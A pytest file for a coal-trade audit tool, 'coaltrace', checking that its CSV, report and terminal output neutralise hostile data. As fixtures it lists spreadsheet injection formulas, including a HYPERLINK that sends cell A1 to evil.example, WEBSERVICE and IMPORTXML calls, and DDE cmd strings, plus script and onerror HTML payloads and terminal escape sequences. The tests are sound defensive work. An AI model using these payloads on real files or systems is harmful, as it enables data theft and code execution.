"""What coaltrace writes cannot attack whoever reads it: CSV cells a spreadsheet would run, HTML
and Markdown in the report, rich markup and escape sequences on the terminal all come out as text."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from coaltrace.cli import app
from coaltrace.export import spreadsheet_cell
from coaltrace.rules import run_audit
from coaltrace.store import Store
from tests.conftest import copy_db
from tests.provenance_helpers import mine, sale

# Cells that Excel, WPS or LibreOffice would run, or read as the start of a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1)",
    "@SUM(A1:A9)",
    "-2+3",
    "+2+3",
    "=-2+3",
    "-A1",
    "+A1",
    '=IMPORTXML(CONCAT("http://e.example/?", A1), "//a")',
    '=WEBSERVICE("http://e.example")',
    "\t=1+1",
    "\r=1+1",
    "\t",
    "\r\n=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
    "-",
    "+",
    "@",
    "=",
    "＝1+1",
    "＋1",
    "－A1",
    "＠SUM(1)",
    "-1e5+A1",
    '=""',
]
# Harmless: numbers, and text that only contains a formula character later on.
HARMLESS = ["-2", "-2.5", "+3", "1e-5", "-.5", "12345", "YD0012", "晋E12345", "a=b", "a+b", "x@y.cn", " =1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_is_neutralised(value: str) -> None:
    safe = spreadsheet_cell(value)
    assert safe == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_numbers_and_plain_text_are_left_alone(value: str) -> None:
    assert spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", [-2, -2.5, 0, 3.0, True, None])
def test_numbers_stored_as_numbers_stay_numbers(value: object) -> None:
    assert spreadsheet_cell(value) is value


@given(st.text())
def test_no_neutralised_cell_starts_like_a_formula(text: str) -> None:
    safe = spreadsheet_cell(text)
    assert safe[:1] not in set("=+@\t\r＝＋＠-－") or re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", safe)
    # Nothing is lost: the quote is the only change.
    assert safe in (text, "'" + text)


@pytest.fixture(scope="module")
def hostile_db_once(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Facilities whose names and ids are attacks, audited, and findings that carry every formula."""
    path = tmp_path_factory.mktemp("hostile") / "audit.duckdb"
    with Store(path) as s:
        mine(s, "M1")
        s.con.execute(
            "INSERT INTO facilities (facility_id, name, kind, county) VALUES "
            "('Y[/b]1', '某煤场[/b]<script>alert(1)</script>', 'yard', '泽州县|<img src=x onerror=alert(1)>'), "
            "('YE', 'e\x1b[2J\x1b]0;pwned\x07', 'yard', '泽州县')"
        )
        sale(s, "M1", "Y[/b]1", 100, "2021-12-02")
        sale(s, "Y[/b]1", "YE", 500, "2021-12-05")
        run_audit(s, "2021-12", only=["facility_unsourced_output"])
        rows = [
            (f"F{i:02d}", "attack_rule", 1, "high", "facility", value, value, value, "2021-12", -2.5)
            for i, value in enumerate(FORMULAS)
        ]
        s.con.executemany(
            "INSERT INTO findings (finding_id, rule_id, rule_version, severity, entity_kind, entity_id, "
            "facility_id, county, period, tonnes_at_risk, evidence, title_zh, title_en) "
            "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, '{\"rows\": [], \"total_rows\": 0}', '=1+1', '=1+1')",
            rows,
        )
    return path


@pytest.fixture
def hostile_db(hostile_db_once: Path, tmp_path: Path) -> Path:
    return copy_db(hostile_db_once, tmp_path)


def test_findings_csv_neutralises_every_formula(hostile_db: Path, runner: CliRunner) -> None:
    res = runner.invoke(app, ["--lang", "en", "findings", "--format", "csv", "--db", str(hostile_db)])
    assert res.exit_code == 0, res.output
    rows = list(csv.DictReader(io.StringIO(res.stdout_bytes.decode("utf-8"), newline="")))
    attacks = {r["finding_id"]: r for r in rows if r["rule_id"] == "attack_rule"}
    assert len(attacks) == len(FORMULAS)
    for i, value in enumerate(FORMULAS):
        r = attacks[f"F{i:02d}"]
        for column in ("entity_id", "facility_id", "county"):
            assert r[column] == "'" + value, (column, value)
        assert r["title"] == "'=1+1"
        # A negative number stored as a number is still a number.
        assert r["tonnes_at_risk"] == "-2.5"
    cells = [c for r in rows for c in r.values()]
    assert not [c for c in cells if c and (c[0] in "=+@\t\r＝＋＠" or (c[0] == "-" and c != "-2.5"))]


def test_report_markdown_and_html_carry_no_markup_from_data(hostile_db: Path, tmp_path: Path) -> None:
    res = CliRunner().invoke(
        app, ["--lang", "en", "report", "-p", "2021-12", "--out", str(tmp_path / "r"), "--db", str(hostile_db)]
    )
    assert res.exit_code == 0, res.output
    md = (tmp_path / "r" / "report.md").read_text(encoding="utf-8")
    page = (tmp_path / "r" / "report.html").read_text(encoding="utf-8")
    assert "某煤场[/b]" not in md and "某煤场\\[/b\\]&lt;script&gt;alert(1)&lt;/script&gt;" in md
    for text in (md, page):
        assert "<script" not in text and "<img" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    # Every table row keeps its columns: a `|` from data does not open a new cell.
    for table in re.findall(r"(?:^\|.*\|\n)+", md, flags=re.M):
        lines = table.splitlines()
        widths = {len(re.findall(r"(?<!\\)\|", line)) for line in lines}
        assert len(widths) == 1, lines


def test_yard_and_findings_print_names_as_text(hostile_db: Path, runner: CliRunner) -> None:
    res = runner.invoke(app, ["--lang", "en", "yard", "Y[/b]1", "-p", "2021-12", "--db", str(hostile_db)])
    assert res.exit_code == 0, res.output
    assert "Y[/b]1 某煤场[/b]<script>alert(1)</script>" in res.stdout
    res = runner.invoke(app, ["--lang", "en", "findings", "--db", str(hostile_db)])
    assert res.exit_code == 0, res.output
    assert "Y[/b]1" in res.stdout and "=HYPERLINK(" in res.stdout
    res = runner.invoke(app, ["--lang", "en", "balance", "-p", "2021-12", "--db", str(hostile_db)])
    assert res.exit_code == 0, res.output
    assert "Y[/b]1" in res.stdout


def test_escape_sequences_from_data_are_shown_not_sent(hostile_db: Path, runner: CliRunner) -> None:
    res = runner.invoke(app, ["--lang", "en", "yard", "YE", "-p", "2021-12", "--db", str(hostile_db)])
    assert res.exit_code == 0, res.output
    assert "\x1b" not in res.stdout and "\x07" not in res.stdout
    assert "e\\x1b[2J\\x1b]0;pwned\\x07" in res.stdout
    res = runner.invoke(app, ["--lang", "en", "yard", "YE", "-p", "2021-12", "--json", "--db", str(hostile_db)])
    assert json.loads(res.stdout)["name"] == "e\x1b[2J\x1b]0;pwned\x07"


def test_an_error_message_with_markup_is_printed_as_text(hostile_db: Path, runner: CliRunner) -> None:
    # Part of a name finds the facility, so the text must match none to be an error.
    res = runner.invoke(app, ["--lang", "en", "yard", "无此单位[/b]", "-p", "2021-12", "--db", str(hostile_db)])
    assert res.exit_code == 2, res.output
    assert "unknown facility '无此单位[/b]'" in res.output


def test_the_internal_error_handler_prints_markup_as_text(
    hostile_db: Path, runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    import coaltrace.rules

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("某煤场[/b] [bold red]\x1b[2J")

    monkeypatch.setattr(coaltrace.rules, "query_findings", broken)
    res = runner.invoke(app, ["--lang", "en", "findings", "--db", str(hostile_db)])
    assert res.exit_code == 70
    assert "RuntimeError('某煤场[/b] [bold red]\\x1b[2J')" in res.output
    assert "\x1b[2J" not in res.output


def test_rules_show_prints_a_title_with_markup_as_text(tmp_path: Path, runner: CliRunner) -> None:
    from tests.test_rules import GOOD

    folder = tmp_path / "rules"
    folder.mkdir()
    text = GOOD.format(id="markup").replace("{zh: 测试规则, en: test rule}", "{zh: '[/b]规则', en: '[/b] rule'}")
    (folder / "markup.yaml").write_text(text, encoding="utf-8")
    res = runner.invoke(app, ["--lang", "en", "rules", "show", "markup", "--rules", str(folder)])
    assert res.exit_code == 0, res.output
    assert "markup v1  [/b] rule" in res.stdout


@given(st.lists(st.one_of(st.none(), st.text(), st.sampled_from(FORMULAS + HARMLESS)), max_size=30))
def test_whole_columns_follow_the_same_rule_as_single_cells(values: list[str | None]) -> None:
    import polars as pl

    from coaltrace.export import spreadsheet_frame

    frame = pl.DataFrame({"text": values, "n": list(range(len(values)))}, schema={"text": pl.String, "n": pl.Int64})
    safe = spreadsheet_frame(frame)
    assert safe["text"].to_list() == [spreadsheet_cell(v) for v in values]
    assert safe["n"].to_list() == frame["n"].to_list()


def test_the_sample_month_goes_through_the_same_writer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Every CSV coaltrace writes passes the rule, the sample month's too (its generated cells need no change)."""
    import polars as pl

    import coaltrace.sample.generate
    import coaltrace.sample.writer
    from coaltrace.export import spreadsheet_frame
    from coaltrace.sample import write_sample

    seen: list[int] = []

    def counting(frame: pl.DataFrame) -> pl.DataFrame:
        seen.append(frame.height)
        return spreadsheet_frame(frame)

    monkeypatch.setattr(coaltrace.sample.writer, "spreadsheet_frame", counting)
    monkeypatch.setattr(coaltrace.sample.generate, "spreadsheet_frame", counting)
    write_sample(tmp_path / "s", seed=1, scale=0.01)
    written = list((tmp_path / "s").rglob("*.csv"))
    assert len(seen) == len(written)
